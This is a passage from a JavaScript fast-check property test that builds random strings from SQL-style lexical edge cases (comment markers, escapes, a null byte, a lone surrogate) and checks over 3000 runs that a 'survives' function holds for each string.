      'U&"',
      '\\',
      '/*',
      '*/',
      '--',
      '\n',
      '\0',
      '\uD800',
      '1',
      '1e',
      '0x',
      '.',
    );
    const soup = fc
      .array(fc.tuple(piece, fc.constantFrom('', ' ', '\n')), { maxLength: 80 })
      .map((parts) => parts.map(([p, sep]) => p + sep).join(''));
    fc.assert(fc.property(soup, survives), { numRuns: 3000 });
  });
});
